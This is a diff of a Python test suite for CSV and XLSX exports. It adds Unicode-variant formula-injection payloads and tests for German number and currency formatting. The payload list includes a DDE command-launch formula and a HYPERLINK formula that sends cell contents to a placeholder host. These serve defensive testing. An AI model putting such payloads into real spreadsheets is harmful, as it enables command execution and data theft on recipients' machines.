@@ -21,6 +21,12 @@ PAYLOADS = [
     "\n=1+1",
     '=HYPERLINK("http://example.org/?"&A1,"hier")',
     "=cmd|' /C calc'!A0",
+    " =1+1",
+    "\u00a0@SUM(A1:A9)",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(A1:A9)",
     "'=1+1",
     "''@x",
     '=IMPORTXML("http://example.org";"//a")',
@@ -61,11 +67,28 @@ def test_xlsx_round_trip(text):
 def test_values_keep_their_german_form():
     row: list[exports.Cell] = [28, -3, Decimal("1234.50"), 2.5, date(2026, 10, 15), True, None]
     header = list("abcdefg")
-    expected = ["28", "-3", "1234,5", "2,5", "15.10.2026", "ja", ""]
+    expected = ["28", "-3", "1234,50", "2,5", "15.10.2026", "ja", ""]
     as_csv = read_table(upload("a.csv", exports.csv_bytes(header, [row])))
     as_xlsx = read_table(upload("a.xlsx", exports.xlsx_bytes(header, [row])))
     assert list(as_csv.rows[0][1].values()) == expected
-    assert list(as_xlsx.rows[0][1].values()) == expected
+    assert list(as_xlsx.rows[0][1].values()) == [*expected[:2], "1234,5", *expected[3:]]  # a number there
+
+
+def test_amounts_in_a_text_file_always_have_cents():
+    row: list[exports.Cell] = [Decimal("5569.20"), Decimal(0), Decimal(800), Decimal("19.0"), 1476, 2.5]
+    assert (
+        exports.csv_bytes(list("abcdef"), [row]).decode().splitlines()[1] == "5569,20;0,00;800,00;19;1476;2,5"
+    )
+
+
+def test_amounts_are_shown_with_two_places_and_groups():
+    """The number stays a number: a sum over the column still works."""
+    row: list[exports.Cell] = [Decimal("1234.50"), Decimal(0), Decimal("19.0"), 1476, 2.5, "1234.50"]
+    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(list("abcdef"), [row])))
+    cells = book.worksheets[0][2]
+    assert [cell.number_format for cell in cells] == ["#,##0.00", "#,##0.00", *["General"] * 4]
+    assert [cell.data_type for cell in cells] == [*"nnnnn", "s"]
+    assert cells[0].value == 1234.5
 
 
 def test_moments_are_local_time():
